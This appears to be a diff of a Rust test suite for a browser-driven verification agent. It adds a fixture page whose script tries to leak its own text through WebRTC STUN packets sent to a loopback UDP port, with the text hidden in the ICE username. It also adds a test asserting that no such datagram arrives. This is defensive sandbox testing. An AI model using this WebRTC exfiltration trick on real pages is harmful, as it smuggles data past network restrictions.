@@ -162,6 +162,32 @@ try {{ new Worker("/worker.js"); }} catch (e) {{}}
 </script>{}"#,
             LATE_STATUS.replace("STATE", "paid")
         )),
+        // WebRTC to a UDP port of the agent's: STUN to it as an ICE server, and a
+        // remote offer naming it as a host candidate, the page's text in the ufrag
+        // (every connectivity check carries it in its USERNAME).
+        "/orders/rtc" => html(format!(
+            r#"<div id="shown">Pending</div><script>
+(async () => {{
+  try {{
+    const a = new RTCPeerConnection({{ iceServers: [{{ urls: "stun:127.0.0.1:{other}" }}] }});
+    a.createDataChannel("x"); await a.setLocalDescription(await a.createOffer());
+  }} catch (e) {{}}
+  try {{
+    const fp = Array.from({{ length: 32 }}, () => "AB").join(":");
+    const sdp = ["v=0", "o=- 1 2 IN IP4 127.0.0.1", "s=-", "t=0 0", "a=group:BUNDLE 0",
+      "m=application 9 UDP/DTLS/SCTP webrtc-datachannel", "c=IN IP4 0.0.0.0",
+      "a=ice-ufrag:LEAK" + document.getElementById("shown").textContent, "a=ice-pwd:aaaaaaaaaaaaaaaaaaaaaaaa",
+      "a=fingerprint:sha-256 " + fp, "a=setup:actpass", "a=mid:0", "a=sctp-port:5000",
+      "a=candidate:1 1 udp 2122260223 127.0.0.1 {other} typ host", ""].join("\r\n");
+    const b = new RTCPeerConnection();
+    await b.setRemoteDescription({{ type: "offer", sdp }});
+    await b.setLocalDescription(await b.createAnswer());
+    window.__keep = b;
+  }} catch (e) {{}}
+  setTimeout(() => {{ const d = document.createElement("div"); d.id = "status"; d.textContent = "Paid"; document.body.appendChild(d); }}, 3000);
+}})();
+</script>"#
+        )),
         "/worker.js" => (
             "200 OK",
             "text/javascript",
@@ -517,5 +543,55 @@ async fn a_page_echoing_the_cookie_never_shows_it() {
     assert!(
         text.starts_with("session ") && !text.contains(SESSION),
         "{text}"
+    );
+}
+
+/// Attack (attacks/dom_exfil.sh): a page's RTCPeerConnection sent STUN to a loopback
+/// UDP port of the agent's, the page's text in the ICE username, in spite of
+/// `--force-webrtc-ip-handling-policy` (which full Chromium does not read). No
+/// datagram may arrive; twin: the page still verifies.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+#[cfg_attr(
+    not(evident_services),
+    ignore = "needs chromium: .ci/run installs it and runs this"
+)]
+async fn webrtc_sends_no_udp() {
+    let (other, log) = other_origin().await;
+    let udp = tokio::net::UdpSocket::bind(("127.0.0.1", other))
+        .await
+        .unwrap();
+    let got = Arc::new(Mutex::new(Vec::<Vec<u8>>::new()));
+    let seen = got.clone();
+    tokio::spawn(async move {
+        let mut buf = [0u8; 65536];
+        while let Ok((n, _)) = udp.recv_from(&mut buf).await {
+            seen.lock().unwrap().push(buf[..n].to_vec());
+        }
+    });
+    let (port, _) = app(other).await;
+    let url = format!("http://127.0.0.1:{port}/orders/rtc");
+    let o = gate(&contract(&url, r#"{ text = "Paid" }"#, "")).await;
+    tokio::time::sleep(Duration::from_millis(500)).await;
+    assert_eq!(
+        o.verdict.state,
+        State::Verified,
+        "twin: {}\n{:?}",
+        o.verdict.reason,
+        o.runs
+    );
+    let datagrams = got.lock().unwrap().clone();
+    let leaked = datagrams
+        .iter()
+        .filter(|d| d.windows(4).any(|w| w == b"LEAK"))
+        .count();
+    assert!(
+        datagrams.is_empty(),
+        "{} UDP datagram(s) reached the agent's port, {leaked} with the page's text",
+        datagrams.len()
+    );
+    assert_eq!(
+        log.lines(),
+        Vec::<String>::new(),
+        "another origin was reached"
     );
 }
